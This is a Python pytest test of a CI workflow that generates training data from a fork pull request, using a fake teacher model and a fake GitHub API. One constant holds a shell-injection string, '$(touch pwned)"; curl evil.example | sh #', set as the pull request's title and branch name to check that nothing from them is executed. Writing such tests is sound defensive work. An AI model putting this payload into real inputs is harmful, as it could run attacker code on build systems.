"""The teacher job of generate.yml, step by step, against a fork pull request and the fake teacher.

One test (it imports litellm once, in the `labtax generate` subprocess): a default-branch checkout
fetches the pull request's head by sha, extracts its leaves, validates, generates through litellm's
real HTTP path to `labtax fake-teacher`, renders the data diff and posts the sticky comment to a
fake GitHub API. The pull request's title and branch are hostile; nothing of them is executed.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import githubkit

LABTAX = Path(sys.executable).parent / "labtax"
LEAF = "taxonomy/compositional_skills/poetry/limerick/qna.yaml"
HOSTILE = '$(touch pwned)"; curl evil.example | sh #'


@pytest.fixture
def fake_teacher(tmp_path):
    proc = subprocess.Popen(
        [str(LABTAX), "fake-teacher", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    try:
        assert proc.stdout is not None
        url = proc.stdout.readline().strip()
        assert url.startswith("http://127.0.0.1:"), url
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def step(cwd: Path, env: dict[str, str], *args: str) -> str:
    done = subprocess.run(
        [str(LABTAX), *args], cwd=cwd, env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, f"labtax {' '.join(args)}\n{done.stdout}\n{done.stderr}"
    return done.stdout


def test_teacher_job_for_a_fork_pull_request(
    github_repo, tmp_path, fake_github, github_env, fake_teacher
):
    # The upstream repository on "GitHub", and a fork pull request adding one leaf.
    upstream = tmp_path / "upstream.git"
    githubkit.git(github_repo, "clone", "-q", "--bare", str(github_repo), str(upstream))
    githubkit.git(github_repo, "switch", "-q", "-c", HOSTILE.replace(" ", "-").replace('"', ""))
    githubkit.write(github_repo, LEAF, githubkit.SKILL.replace("haiku", "limerick"))
    githubkit.write(github_repo, LEAF.replace("qna.yaml", "attribution.txt"), "tester\n")
    head = githubkit.commit_all(github_repo, "add limerick")
    githubkit.git(github_repo, "push", "-q", str(upstream), "HEAD:refs/pull/7/head")

    # The job's checkout: the default branch only.
    job = tmp_path / "job"
    githubkit.git(tmp_path, "clone", "-q", str(upstream), str(job))
    fake_github.pulls[7] = {
        "number": 7,
        "state": "open",
        "title": HOSTILE,
        "head": {"sha": head, "ref": HOSTILE, "repo": {"full_name": "mallory/taxonomy"}},
        "base": {"ref": "main", "repo": {"full_name": "octo/taxonomy"}},
    }
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps(
            {
                "workflow_run": {
                    "event": "pull_request",
                    "conclusion": "success",
                    "head_sha": head,
                    "head_branch": HOSTILE,
                    "display_title": HOSTILE,
                    "head_repository": {"full_name": "mallory/taxonomy"},
                },
                "repository": {"full_name": "octo/taxonomy"},
            }
        )
    )
    env = {
        **os.environ,
        **github_env,
        "GITHUB_EVENT_PATH": str(event),
        "LITELLM_LOCAL_MODEL_COST_MAP": "True",
    }
    request = tmp_path / "request.json"
    request.write_text(json.dumps({"number": 7, "head_sha": head}))

    step(job, env, "pr", "check-head", "--event", str(event), "--request", str(request))
    step(job, env, "pr", "fetch", "--head-sha", head)
    out = step(
        job,
        env,
        "pr",
        "extract",
        "--base-sha",
        "HEAD",
        "--head-sha",
        head,
        "--out",
        ".",
        "--max-leaves",
        "5",
        "--max-bytes",
        "100000",
    )
    assert "1 leaf, 2 files written" in out
    step(job, env, "validate", "--changed", "--base", "HEAD", "--format", "github")
    # The pending job, before the approval gate: the comment exists and says data is coming.
    pending = step(
        job, env, "pr", "status", "--number", "7", "--head-sha", head, "--outcome", "pending"
    )
    assert "created comment" in pending
    assert f"Data for `{head}` is on its way" in fake_github.comments[0]["body"]
    # The documents step, without the key, then the keyed step that fetches nothing.
    keyless = {k: v for k, v in env.items() if k != "LABTAX_TEACHER_API_KEY"}
    keyless.update(
        LABTAX_CACHE_DIR=str(job / ".labtax" / "cache"), LABTAX_DOCUMENT_PROTOCOLS="https"
    )
    prefetched = step(job, keyless, "generate", "--changed", "--base", "HEAD", "--prefetch-only")
    assert "documents ready for 0 of 0 leaves" in prefetched
    teacher_env = {
        **env,
        "LABTAX_TEACHER_MODEL": "openai/labtax-fake-teacher",
        "LABTAX_TEACHER_API_BASE": fake_teacher,
        "LABTAX_TEACHER_API_KEY": "offline-stand-in",
        "LABTAX_CACHE_DIR": str(job / ".labtax" / "cache"),
    }
    # The workflow also passes --max-cost; the fake teacher has no price, and generate refuses
    # a cost cap it cannot enforce (fail closed), so only the calls cap applies here.
    step(
        job,
        teacher_env,
        "generate",
        "--changed",
        "--base",
        "HEAD",
        "--no-document-fetch",
        "--max-calls",
        "500",
    )
    samples = job / "generated/compositional_skills/poetry/limerick/samples.jsonl"
    assert samples.read_text().count("\n") >= 1
    assert not (job / "generated/compositional_skills/poetry/haiku").exists()
    report = job / "labtax-report"
    comment = step(
        job,
        env,
        "diff",
        "--base",
        "HEAD",
        "--format",
        "markdown",
        "--output-dir",
        str(report),
        "--max-chars",
        "60000",
    )
    (report / "comment.md").write_text(comment)
    posted = step(
        job,
        env,
        "pr",
        "comment",
        "--number",
        "7",
        "--body-file",
        str(report / "comment.md"),
        "--head-sha",
        head,
    )

    assert "updated comment" in posted
    assert len(fake_github.comments) == 1
    body = fake_github.comments[0]["body"]
    assert "on its way" not in body
    assert body.startswith(f"<!-- labtax-data-diff -->\n<!-- labtax-head: {head} -->\n")
    assert f"for commit `{head}`" in body
    assert "compositional_skills/poetry/limerick" in body
    assert Path(github_env["GITHUB_STEP_SUMMARY"]).read_text().strip()
    assert not (job / "pwned").exists()
    assert not (tmp_path / "pwned").exists()
